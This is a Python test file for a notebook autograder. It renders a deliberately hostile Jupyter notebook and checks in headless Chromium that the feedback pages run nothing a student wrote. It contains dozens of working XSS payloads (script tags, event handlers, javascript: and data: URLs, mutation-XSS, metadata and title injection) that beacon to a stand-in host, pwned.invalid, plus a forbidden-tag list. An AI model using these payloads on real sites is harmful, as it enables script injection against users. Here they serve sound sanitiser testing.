"""Feedback pages run nothing a student wrote (autograde/feedback_html.py).

A hostile notebook (every route into the page we could think of: markdown, raw cells, each output
MIME type, attachments, metadata, widget state, the notebook's name and title) is rendered with the
real ``FeedbackHTMLExporter`` through three templates: nbgrader's feedback template, configured as
nbgrader's ``GenerateFeedback`` configures it (what ``make grade`` writes), and nbconvert's lab and
classic. Each payload that ran would leave a trace: it sets ``document.title``, writes to
``window``, logs to the console, fetches ``https://pwned.invalid/...``, calls ``alert`` and adds an
element; markup-only payloads (a meta refresh, ``<base>``, a stylesheet, ``srcset``...) would fetch
or navigate.

* Without a browser: the policy is the first element of ``<head>``, and the page holds no script
  element, no ``on*`` attribute, no ``javascript:`` or non-image ``data:`` URL, no frame, object,
  form or base, and still the honest parts (a heading, a code cell's source, a PNG, a table).
* In headless Chromium (Debian's, through Playwright; ``make browser`` installs both): the page
  opened from ``file://`` shows no dialog, makes no request but itself, does not navigate, logs
  nothing but policy reports, and has no trace in its DOM or ``window``; both with the page as made
  and with its policy removed (the sanitiser alone), and for nbconvert's unsanitised page with the
  policy added (the policy alone stops every script). Last, the same browser on nbconvert's own
  unsanitised page does see the payloads run, so the checks can catch what they are meant to.

Where Playwright or /usr/bin/chromium is missing the browser tests are skipped with the reason;
with ``REQUIRE_BROWSER=1`` (.ci/run) they fail instead. ``FEEDBACK_TEST_UNSAFE=1`` renders with the
exporter's two layers switched off (the exporter as it was before them), to see these tests fail.
"""

import base64
import json
import os
import re
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from autograde import feedback_html
from autograde.feedback_html import ALT_TEXT, CSP, CSP_META, NOTE_JAVASCRIPT, FeedbackHTMLExporter
from autograde.feedback_math import ATTRIBUTES as MATHML_ATTRIBUTES
from autograde.feedback_math import TAGS as MATHML_TAGS
from browser_support import chromium

ROOT = Path(__file__).resolve().parents[1]


TRACE = "pwned"                    # what a payload that ran leaves; never written whole in a payload's code
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HONEST = ("Honest heading", "honest_answer = 6 * 7", "forty-two printed", r"\alpha^2", "cell in a table")


def js(name: str) -> str:
    """A payload's code: no spaces and no double quotes, so it fits any attribute, quoted or not;
    it reaches the top page from a frame of the same origin; ``'pw'+'ned'`` is never text of the
    page, so a trace can only come from code that ran."""
    mark = f"'pw'+'ned:{name}'"
    return (f"fetch('https://pw'+'ned.invalid/{name}');top.document.title={mark};top['pw'+'ned_{name}']=1;"
            f"top.console.log({mark});alert({mark});"
            f"top.document.body.appendChild(top.document.createElement('pw'+'ned'))")


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def svg(name: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(name)}"><script>{js(name + "-inner")}</script>'
            f'<rect width="10" height="10"/></svg>')


MARKDOWN = {      # name: a markdown cell's source
    "md-script": f"<script>{js('md-script')}</script>",
    "md-script-case": f"<ScRiPt >{js('md-script-case')}</sCrIpT >",
    "md-img-onerror": f'<img src=x onerror="{js("md-img-onerror")}">',
    "md-img-case": f"<IMG SRC=x OnErRoR={js('md-img-case')}>",
    "md-img-entities": '<img src=x onerror="' + "".join(f"&#{ord(c)};" for c in js("md-img-entities")) + '">',
    "md-svg": f'<svg onload="{js("md-svg")}"><script>{js("md-svg-script")}</script>'
              f'<animate onbegin="{js("md-svg-animate")}" attributeName="x" dur="1s"/></svg>',
    "md-math-mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{js("md-math-mxss")}">',
    "md-noscript": f'<noscript><p title="</noscript><img src=x onerror={js("md-noscript")}>"></noscript>',
    "md-comment": f"<!--><img src=x onerror={js('md-comment')}>-->",
    "md-links": f"[a link](javascript:{js('md-link-md')}) <a href=\"javascript:{js('md-link')}\">b</a> "
                f"<a href=\"JaVaScRiPt:{js('md-link-case')}\">c</a> <a href=\"jav&#x09;ascript:{js('md-link-tab')}\">d</a> "
                f"<a href=\"&#106;avascript:{js('md-link-entity')}\">e</a> "
                f"<a href=\"data:text/html;base64,{b64('<script>' + js('md-link-data') + '</script>')}\">f</a>",
    "md-iframe": f'<iframe src="javascript:{js("md-iframe-js")}"></iframe>'
                 f'<iframe srcdoc="<script>{js("md-iframe-srcdoc")}</script>"></iframe>'
                 f'<iframe src="data:text/html;base64,{b64("<script>" + js("md-iframe-data") + "</script>")}"></iframe>',
    "md-object": f'<object data="data:text/html;base64,{b64("<script>" + js("md-object") + "</script>")}"></object>'
                 f'<embed src="data:image/svg+xml;base64,{b64(svg("md-embed"))}">'
                 f'<object data="javascript:{js("md-object-js")}"></object>',
    "md-data-script": f"<script src=\"data:text/javascript,{js('md-data-script')}\"></script>",
    "md-meta-refresh": '<meta http-equiv="refresh" content="0;url=https://pwned.invalid/md-meta-refresh">'
                       f'<meta http-equiv="refresh" content="0;url=javascript:{js("md-meta-refresh-js")}">',
    "md-base": '<base href="https://pwned.invalid/md-base/"><img src="relative.png" alt="r">',
    "md-style": "<style>@import url('https://pwned.invalid/md-style-import.css');"
                "body{background:url('https://pwned.invalid/md-style-bg.png')}</style>"
                "<link rel=stylesheet href=https://pwned.invalid/md-link.css>"
                '<div style="background-image:url(https://pwned.invalid/md-style-attr.png)">s</div>'
                '<div style="background:u\\rl(https://pwned.invalid/md-style-escape.png)">t</div>'
                f'<div style="width:expression({js("md-style-expression")})">u</div>',
    "md-fetching-attrs": '<img srcset="https://pwned.invalid/md-srcset.png 1x" alt="s">'
                         '<input type="image" src="https://pwned.invalid/md-input.png">'
                         '<video poster="https://pwned.invalid/md-poster.png"></video>'
                         '<table background="https://pwned.invalid/md-table-bg.png"><tr><td>t</td></tr></table>'
                         '<img src="https://pwned.invalid/md-remote.png" alt="remote">',
    "md-events": f"<body onload={js('md-body-onload')}><details open ontoggle={js('md-details')}><summary>x</summary></details>"
                 f"<input autofocus onfocus={js('md-autofocus')}><video><source onerror={js('md-video')}></video>"
                 f"<audio src=x onerror={js('md-audio')}></audio><marquee onstart={js('md-marquee')}>m</marquee>",
    "md-form": f'<form action="javascript:{js("md-form")}"><button formaction="javascript:{js("md-button")}">go</button></form>',
    "md-breakout": f"</div></div></div></main></body></html><script>{js('md-breakout')}</script>",
    "md-encodings": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- &lt;script&gt;alert(1)&lt;/script&gt;",
    "md-attachments": "![svg](attachment:evil.svg) ![png](attachment:quote.png) ![html](attachment:page.html)",
    # LaTeX becomes MathML when the page is made (autograde/feedback_math.py): no link, style or markup gets through
    "md-latex": f"$\\href{{javascript:{js('md-latex-href')}}}{{x}}$ and "
                "$$\\style{background:url(https://pwned.invalid/md-latex.png)}{y} \\text{</math><img src=x>}$$",
    "md-mermaid": f"```mermaid\ngraph TD\nA[\"</pre><img src=x onerror={js('md-mermaid')}>\"]\n```",
}
ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": b64(svg("attachment-svg"))},
    "quote.png": {"image/png": f'x" onerror="{js("attachment-quote")}'},
    "page.html": {"text/html": b64(f"<script>{js('attachment-html')}</script>")},
}


def outputs():
    html = lambda s: new_output("display_data", data={"text/html": s, "text/plain": "html"})  # noqa: E731
    return [
        html(f"<script>{js('out-html-script')}</script><img src=x onerror={js('out-html-img')}>"),
        html(f"</div></div></main></body><script>{js('out-html-breakout')}</script>"),
        new_output("display_data", data={"image/svg+xml": svg("out-svg"), "text/plain": "svg"}),
        new_output("display_data", data={"application/javascript": js("out-javascript"), "text/plain": "js"}),
        new_output("display_data", data={"text/markdown": f"<script>{js('out-markdown')}</script>"}),
        new_output("display_data", data={"text/latex": f"</div><script>{js('out-latex')}</script>"}),
        new_output("display_data", data={"text/vnd.mermaid": f"</pre><script>{js('out-mermaid')}</script>"}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {
            "model_id": f"</script><script>{js('out-widget')}</script>", "version_major": 2, "version_minor": 0},
            "text/plain": "IntSlider()"}),
        # width and height go into an unquoted attribute in nbconvert's templates
        new_output("display_data", data={"image/png": PNG},
                   metadata={"image/png": {"width": f"1 onload={js('out-png-width')}", "height": "1"}}),
        new_output("stream", name="stdout", text=f"<script>{js('out-stream')}</script>\n"),
        new_output("error", ename="Boom", evalue="<script>x</script>",
                   traceback=[f"\x1b[31m<script>{js('out-traceback')}</script>\x1b[0m"]),
    ]


def hostile_notebook():
    cells = [
        new_markdown_cell(f"# {HONEST[0]}\n\nWith ${HONEST[3]}$ and a table:\n\n| a |\n|---|\n| {HONEST[4]} |\n"),
        new_code_cell(HONEST[1] + "\nprint('forty-two printed')", execution_count=1, outputs=[
            new_output("stream", name="stdout", text=HONEST[2] + "\n"),
            new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"})]),
    ]
    for name, source in MARKDOWN.items():
        cell = new_markdown_cell(source)
        cell.metadata["tags"] = [f'x" onmouseover="{js("tag-" + name)}', f"<script>{js('tag-' + name)}</script>"]
        if name == "md-attachments":
            cell.attachments = ATTACHMENTS
        cells.append(cell)
    cells.append(new_code_cell("display(everything)", execution_count=2, outputs=outputs()))
    cells.append(new_raw_cell(f"<script>{js('raw-html')}</script><img src=x onerror={js('raw-html-img')}>",
                              metadata={"raw_mimetype": "text/html"}))
    cells.append(new_raw_cell(f"<script>{js('raw-plain')}</script>"))
    # nbgrader's feedback template writes a cell's grade id and comment (markdown) unescaped
    cells.append(new_markdown_cell("Written answer", metadata={"nbgrader": {
        "grade": True, "solution": True, "grade_id": f'"><img src=x onerror={js("nbgrader-grade-id")}>',
        "points": 1, "score": 0.5, "comment": f"<img src=x onerror={js('nbgrader-comment')}>"}}))
    nb = new_notebook(cells=cells, metadata={
        "language_info": {"name": "python", "pygments_lexer": "ipython3"},
        "title": f"</title><script>{js('nb-title')}</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {
            "state": {"x": f"</script><script>{js('widget-state')}</script>"}, "version_major": 2, "version_minor": 0}},
    })
    return nbformat.from_dict(nb)


NOTEBOOK_NAME = f"02_reward</title><script>{js('nbgrader-notebook-name')}</script>"


def render(template: str, exporter_class=FeedbackHTMLExporter) -> str:
    """The hostile notebook's page through ``template``: ``feedback`` is nbgrader's, configured as
    nbgrader's GenerateFeedback configures the exporter (its grades given here, not by GetGrades)."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config import Config

    resources = {}
    if template == "feedback":
        config = GenerateFeedback(coursedir=CourseDirectory(root=str(ROOT))).config
        resources["nbgrader"] = {"notebook": NOTEBOOK_NAME, "score": 0.5, "max_score": 1.0, "late_penalty": 0}
    else:
        config = Config()
        config.HTMLExporter.template_name = template
    exporter = exporter_class(config=config)
    exporter.register_preprocessor(CSSHTMLHeaderPreprocessor, enabled=True)   # nbgrader's second one
    page, _ = exporter.from_notebook_node(hostile_notebook(), resources=resources)
    return page


TEMPLATES = ["feedback", "lab", "classic"]


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """{template: (page, path)} of the hostile notebook, and each written to a folder of its own."""
    folder = tmp_path_factory.mktemp("feedback-pages")
    with pytest.MonkeyPatch.context() as mp:
        if os.environ.get("FEEDBACK_TEST_UNSAFE"):     # the exporter without its two layers, as it was
            mp.setattr(feedback_html, "safe_page", lambda page: page)
            mp.setattr(feedback_html, "neutralise_notebook", lambda nb: None)
        made = {t: render(t) for t in TEMPLATES}
    out = {}
    for template, page in made.items():
        path = folder / template / "02_reward.html"
        path.parent.mkdir()
        path.write_text(page, encoding="utf-8")
        out[template] = (page, path)
    return out


# --- without a browser ---------------------------------------------------------------------------
class Tags(HTMLParser):
    """Every start tag of a page, with its attributes, and its text, as Python's HTML parser reads them."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.tags, self._text = [], []
        self.feed(page)
        self.close()
        self.text = "".join(self._text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data):
        self._text.append(data)

    handle_startendtag = handle_starttag


FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "link",
                  "svg", "template", "portal", "button", "textarea", "select", "video", "audio",
                  "source", "marquee", "noscript", "input"}


def markup_problems(page: str) -> list[str]:
    problems = []
    if re.search(r"<\s*script", page, re.IGNORECASE):
        problems.append("the text <script")
    head = True
    for tag, attrs in Tags(page).tags:
        if tag == "body":
            head = False
        if tag in FORBIDDEN_TAGS or (tag == "style" and not head):
            problems.append(f"<{tag}>")
        if tag in MATHML_TAGS and set(attrs) - MATHML_ATTRIBUTES:
            problems.append(f"<{tag} {sorted(set(attrs) - MATHML_ATTRIBUTES)}>")
        if tag == "meta" and set(attrs) - {"charset", "name", "content"} and attrs.get("http-equiv") != \
                "Content-Security-Policy":
            problems.append(f"<meta {attrs}>")
        for name, value in attrs.items():
            v = re.sub(r"[\x00-\x20]", "", value).lower()
            if (name.startswith("on") or name in {"srcdoc", "srcset", "formaction", "background", "poster", "ping"}
                    or v.startswith(("javascript:", "vbscript:"))
                    or (v.startswith("data:") and not (tag == "img" and name == "src" and v.startswith("data:image/")))
                    or (tag == "img" and name == "src" and not v.startswith("data:image/"))
                    or (name == "style" and re.search(r"url|expression|import|\\", v))):
                problems.append(f"<{tag} {name}={value[:80]!r}>")
    return problems


@pytest.mark.parametrize("template", TEMPLATES)
def test_the_policy_is_the_first_element_of_head(pages, template):
    page, _ = pages[template]
    assert page.startswith("<!DOCTYPE html>\n<html")
    html, head, first = Tags(page).tags[:3]
    assert (html[0], head[0]) == ("html", "head")
    assert first == ("meta", {"http-equiv": "Content-Security-Policy", "content": CSP}), first
    for rule in ("default-src 'none'", "script-src 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"):
        assert rule in CSP


@pytest.mark.parametrize("template", TEMPLATES)
def test_no_payload_survives_as_markup(pages, template):
    page, _ = pages[template]
    assert markup_problems(page) == []


@pytest.mark.parametrize("template", TEMPLATES)
def test_the_honest_parts_still_show(pages, template):
    page, _ = pages[template]
    parsed = Tags(page)
    for honest in HONEST[:3] + HONEST[4:]:      # heading, code, printed text, a table's cell
        assert honest in parsed.text, honest
    # the LaTeX, drawn as MathML where the page is made (ours; nbconvert's templates leave $...$)
    assert "\u03b1" in parsed.text and {"math", "msup", "mi"} <= {t for t, _ in parsed.tags}
    assert any(t == "img" and a.get("src") == f"data:image/png;base64,{PNG}" and a.get("alt") == ALT_TEXT
               for t, a in parsed.tags)
    assert {"h1", "table", "td"} <= {t for t, _ in parsed.tags}
    assert NOTE_JAVASCRIPT in parsed.text       # the JavaScript output, as a note


def test_an_honest_svg_and_a_link_are_kept():
    """An SVG output shows as an image (an <img> runs no script), a plain link and an anchor stay."""
    nb = nbformat.from_dict(new_notebook(cells=[
        new_markdown_cell("See [the docs](https://example.org/docs) and [below](#Below).\n\n## Below"),
        new_code_cell("plot()", outputs=[new_output("display_data", data={
            "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>'})])]))
    page, _ = FeedbackHTMLExporter().from_notebook_node(nb)
    tags = Tags(page).tags
    assert ("a", {"href": "https://example.org/docs"}) in tags and ("a", {"href": "#Below"}) in tags
    assert any(t == "img" and a["src"].startswith("data:image/svg+xml;base64,") for t, a in tags)
    assert markup_problems(page) == []


# --- in a browser ----------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def browser():
    with chromium() as b:          # tests/browser_support.py: Debian's Chromium, skip or fail as it says
        yield b


DOM_CHECK = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName;
    if (%s.includes(tag) || (tag === 'style' && el.parentNode !== document.head)
        || (tag === 'meta' && el.hasAttribute('http-equiv')
            && el.getAttribute('http-equiv') !== 'Content-Security-Policy')) bad.push('<' + tag + '>');
    for (const a of el.attributes) {
      const v = a.value.replace(/[\\x00-\\x20]/g, '').toLowerCase();
      if (a.name.startsWith('on') || ['srcdoc', 'srcset', 'formaction', 'background', 'poster', 'ping'].includes(a.name)
          || v.startsWith('javascript:') || v.startsWith('vbscript:')
          || (v.startsWith('data:') && !(tag === 'img' && a.name === 'src' && v.startsWith('data:image/'))))
        bad.push(tag + '[' + a.name + '=' + a.value.slice(0, 80) + ']');
    }
  }
  const png = [...document.images].filter(i => i.src.startsWith('data:image/png') && i.complete && i.naturalWidth > 0);
  return {bad, title: document.title, frames: window.frames.length,
          marks: Object.keys(window).filter(k => k.startsWith('pw' + 'ned')),
          elements: document.getElementsByTagName('pw' + 'ned').length,
          text: document.body ? document.body.innerText : '', pngs: png.length};
}""" % json.dumps(sorted(FORBIDDEN_TAGS))


def visit(browser, path: Path, wait_ms: int = 1500) -> dict:
    """What a look at the page from disk left: dialogs, requests, main-frame navigations, console
    messages, uncaught errors, and (if it is still on the page) what its DOM holds. Requests off the
    page are answered with an error, never sent."""
    context = browser.new_context()
    page = context.new_page()
    seen = {"dialogs": [], "requests": [], "navigations": [], "console": [], "errors": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: seen["requests"].append(r.url))
    page.on("console", lambda m: seen["console"].append(f"{m.type}: {m.text}"))
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))
    page.on("framenavigated", lambda f: seen["navigations"].append(f.url) if f == page.main_frame else None)
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(("file:", "data:"))
                  else route.abort())
    try:
        page.goto(path.as_uri(), wait_until="load")
        page.wait_for_timeout(wait_ms)        # a meta refresh, a media error, an animation's begin
        seen["dom"] = page.evaluate(DOM_CHECK) if page.url == path.as_uri() else None
    finally:
        context.close()
    return seen


def assert_nothing_ran(seen: dict, url: str, policy: bool):
    report = json.dumps({k: v for k, v in seen.items() if k != "dom"}, indent=1)[:4000]
    assert seen["dialogs"] == [], report
    assert [u for u in seen["requests"] if u != url and not u.startswith("data:")] == [], report
    assert seen["navigations"] == [url], report
    assert not [m for m in seen["console"] if f"{TRACE}:" in m or (policy and "Content Security Policy" not in m)], report
    assert seen["errors"] == [], report
    dom = seen["dom"]
    assert dom["bad"] == [] and dom["marks"] == [] and dom["elements"] == 0 and dom["frames"] == 0, dom["bad"]
    assert TRACE not in dom["title"]
    for honest in (HONEST[0], HONEST[1], HONEST[2], HONEST[4]):
        assert honest in dom["text"], honest
    assert dom["pngs"] >= 1, "the PNG output is drawn"


@pytest.mark.parametrize("template", TEMPLATES)
def test_nothing_runs_in_chromium(browser, pages, template):
    page, path = pages[template]
    seen = visit(browser, path)
    print(f"{template}: console {seen['console']}")
    assert_nothing_ran(seen, path.as_uri(), policy=True)


@pytest.mark.parametrize("template", TEMPLATES)
def test_the_sanitiser_alone_stops_every_payload(browser, pages, template):
    """The same page with its policy taken out: nothing ran, so nothing was left to block."""
    page, path = pages[template]
    assert CSP_META in page
    bare = path.with_name("02_reward_no_policy.html")
    bare.write_text(page.replace(CSP_META, ""), encoding="utf-8")
    assert_nothing_ran(visit(browser, bare), bare.as_uri(), policy=False)


NAVIGATES = {"md-meta-refresh"}     # a policy cannot stop a meta refresh to an http(s) address


def test_the_policy_alone_stops_every_script(browser, tmp_path, monkeypatch):
    """nbconvert's own page (no sanitiser) with the policy added: no payload's code runs, and
    whatever the page asks for is refused; its markup is the sanitiser's part, not checked here."""
    monkeypatch.setattr(sys.modules[__name__], "MARKDOWN", {k: v for k, v in MARKDOWN.items() if k not in NAVIGATES})
    page = render("lab", HTMLExporter).replace("<head>", "<head>\n" + CSP_META, 1)
    path = tmp_path / "policy_only.html"
    path.write_text(page, encoding="utf-8")
    seen = visit(browser, path)
    report = json.dumps({k: v for k, v in seen.items() if k != "dom"}, indent=1)[:4000]
    assert seen["dialogs"] == [] and seen["errors"] == [], report
    assert not [m for m in seen["console"] if f"{TRACE}:" in m], report
    # what the page asked for (the template's require.js and MathJax, the payloads' images and
    # sheets) the policy refused: each is named in one of its reports
    refused = " ".join(m for m in seen["console"] if "Content Security Policy" in m)
    asked = [u for u in seen["requests"] if u != path.as_uri() and not u.startswith("data:")]
    assert [u for u in asked if u not in refused] == [], report
    assert seen["dom"]["marks"] == [] and seen["dom"]["elements"] == 0 and TRACE not in seen["dom"]["title"]


def test_the_checks_see_payloads_run_on_an_unsanitised_page(browser, tmp_path):
    """nbconvert's own page, neither sanitised nor under a policy: the checks above would fail on it
    (else they could not tell)."""
    path = tmp_path / "nbconvert.html"
    path.write_text(render("lab", HTMLExporter), encoding="utf-8")
    seen = visit(browser, path)
    ran = {m.split(":", 1)[1] for m in seen["dialogs"] if m.startswith(TRACE + ":")}
    fetched = {u.rsplit("/", 1)[1] for u in seen["requests"] if "pwned.invalid" in u}
    print(f"ran: {sorted(ran)}\nfetched: {sorted(fetched)}")
    # the plainest routes, which any browser runs
    assert {"md-script", "md-img-onerror", "out-html-script", "out-html-img", "out-javascript"} <= ran
    assert {"md-link.css", "md-remote.png", "md-srcset.png"} <= fetched       # markup alone fetches too


# --- three real feedback pages, as a student opens them (issue 42, item 7): a lane ----------------
HANDINS = ("perfect", "wrong", "incomplete")
PAGE_CASES = [(s, w, scheme, j) for s in HANDINS for w in (390, 1280) for scheme in ("light", "dark") for j in (True, False)]


@pytest.fixture(scope="module")
def feedback_pages(tmp_path_factory):
    """02_reward graded for a student who solved it, one who forgot to de-normalise and one who
    handed in the release as it was (tests/handins.py), by the real grader and nbgrader; their
    pages. Unconfined: the hand-ins are this test's own, and the pages are what is tested here."""
    from autograde import grade
    from autograde.course import ASSIGNMENT
    from handins import FORGOT_TO_UNNORMALISE, reward_handin, unsolved_handin, write_class

    tmp = tmp_path_factory.mktemp("feedback-lane")
    subs = write_class(tmp / "class", {"perfect": reward_handin(), "wrong": reward_handin(edit=FORGOT_TO_UNNORMALISE),
                                       "incomplete": unsolved_handin()})
    (tmp / "course").mkdir()
    grade.grade_class(subs, tmp / "course", timeout=120, log=lambda *a: None, progress=False, confine=False)
    return {s: tmp / "course" / "feedback" / s / ASSIGNMENT / "02_reward.html" for s in HANDINS}


@pytest.mark.lane
@pytest.mark.parametrize("student,px,scheme,js", PAGE_CASES,
                         ids=[f"{s}-{w}-{c}-{'js' if j else 'nojs'}" for s, w, c, j in PAGE_CASES])
def test_a_feedback_page_reads_on_a_phone_and_a_desktop(browser, feedback_pages, student, px, scheme, js):
    """At 390 px (a phone: its viewport honoured) and 1280 px, light and dark, JavaScript on and
    off: no console message, no request but the page itself, no text under 10 px, nothing wider than
    the screen, no image left undrawn (the badges are text links), no LaTeX source and no install
    cell; the summary names the test, and a student who lost points reads the grader's hint on the
    first screen. Screenshots (the wrong hand-in's at 390 px above all) go to $LANE_ARTIFACTS."""
    from browser_support import PAGE_MEASURE

    path = feedback_pages[student]
    assert path.is_file(), f"no feedback page for {student}"
    phone = px < 600
    ctx = browser.new_context(viewport={"width": px, "height": 800}, color_scheme=scheme, java_script_enabled=js,
                              is_mobile=phone, has_touch=phone)
    page = ctx.new_page()
    seen = {"console": [], "requests": []}
    page.on("console", lambda m: seen["console"].append(f"{m.type}: {m.text}"))
    page.on("request", lambda r: seen["requests"].append(r.url))
    page.goto(path.as_uri(), wait_until="load")
    m = page.evaluate(PAGE_MEASURE)
    text = page.inner_text("body")
    hint = page.locator("li", has_text="reward_impl_tests").first
    hint_bottom = hint.evaluate("e => e.getBoundingClientRect().bottom") if hint.count() else None
    undrawn = page.evaluate("() => [...document.images].filter(i => !(i.complete && i.naturalWidth > 0)).length")
    maths = page.locator("math").count()
    artifacts = Path(os.environ.get("LANE_ARTIFACTS") or path.parent)
    artifacts.mkdir(parents=True, exist_ok=True)
    if js:
        page.screenshot(path=str(artifacts / f"feedback_{student}_{px}_{scheme}.png"))
        if student == "wrong" and phone:
            page.screenshot(path=str(artifacts / f"feedback_{student}_{px}_{scheme}_full.png"), full_page=True)
    ctx.close()
    assert seen["console"] == [] and seen["requests"] == [path.as_uri()], seen
    assert m["smallest"][0][0] >= 10, m["smallest"]
    assert m["page_overflow"] <= 1 and not m["wide"], (m["page_overflow"], m["wide"])
    assert undrawn == 0 and "google.colab" not in text and "$$" not in text
    assert "What the grader found" in text and "reward_impl_tests" in text and "Test cell: reward_impl_tests" in text
    assert "Open In Colab" in text and maths == 0          # 02_reward has no formula; 03's: tests/test_feedback_math.py
    if student == "perfect":
        assert "4 of 4 points" in text and "Every test passed." in text
    else:
        assert "0 of 4 points" in text and "first failure: check 1" in text
        assert hint_bottom is not None and hint_bottom <= 800, f"the hint ends at {hint_bottom} px"
